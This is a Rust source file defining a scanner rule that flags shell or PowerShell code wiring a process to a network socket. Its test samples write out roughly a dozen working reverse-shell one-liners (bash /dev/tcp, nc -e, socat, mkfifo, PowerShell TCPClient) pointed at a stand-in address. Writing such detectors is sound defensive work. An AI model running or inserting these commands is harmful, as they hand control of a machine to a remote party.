//! A shell is wired to a socket.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::language::Language;
use crate::scan::operation::Act;
use crate::scan::rule::{Check, Reporter, Rule, Sample};

/// The rule.
pub static RULE: Rule = Rule {
    id: "shell-reverse-shell",
    title: "Wires a shell or a process to a network socket",
    severity: Severity::Blocker,
    confidence: Confidence::High,
    why: "Whoever holds the other end types commands on this machine.",
    fix: "Remove it; no skill needs a remote shell.",
    references: &["CWE-506", "ATT&CK T1059.004"],
    hits: &[
        Sample::File("a.sh", "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n"),
        Sample::File("a.sh", "exec 3<>/dev/tcp/192.0.2.7/4444\n"),
        Sample::File("a.sh", "nc -e /bin/sh 192.0.2.7 4444\n"),
        Sample::File("a.sh", "ncat 192.0.2.7 4444 --sh-exec 'bash -i'\n"),
        Sample::File("a.sh", "busybox nc 192.0.2.7 4444 -e sh\n"),
        Sample::File("a.sh", "socat TCP:192.0.2.7:4444 EXEC:/bin/sh,pty\n"),
        Sample::File(
            "a.sh",
            "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f\n",
        ),
        Sample::File(
            "a.sh",
            "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'\n",
        ),
        Sample::File(
            "a.sh",
            "perl -e 'use Socket; socket(S,2,1,6); exec(\"/bin/sh -i\");'\n",
        ),
        Sample::File(
            "a.sh",
            "0<&196;exec 196<>/dev/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196\n",
        ),
        Sample::File(
            "a.ps1",
            "$c = New-Object Net.Sockets.TCPClient('192.0.2.7', 4444)\n$s = $c.GetStream()\niex $line\n",
        ),
    ],
    misses: &[
        Sample::File(
            "a.sh",
            "nc -z localhost 8080\necho mkfifos\nbash build.sh\n",
        ),
        Sample::File(
            "a.sh",
            "timeout 1 bash -c '</dev/tcp/localhost/8080' || exit 1\n",
        ),
        Sample::File(
            "a.sh",
            "until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done\n",
        ),
        Sample::File(
            "a.sh",
            "echo '/dev/tcp/192.0.2.7/4444'\n# nc -e /bin/sh 192.0.2.7 4444\n",
        ),
        Sample::File(
            "a.sh",
            "printf 'GET / HTTP/1.0\\n\\n' | nc example.com 80\n",
        ),
        Sample::File("a.sh", "socat TCP-LISTEN:8080,fork TCP:localhost:80\n"),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, report: &mut Reporter<'_>) {
    if !matches!(unit.language, Language::Shell | Language::PowerShell) {
        return;
    }
    for operation in unit
        .lowered
        .operations
        .iter()
        .filter(|operation| operation.act == Act::Rewire)
    {
        report.raise(operation.span);
    }
}
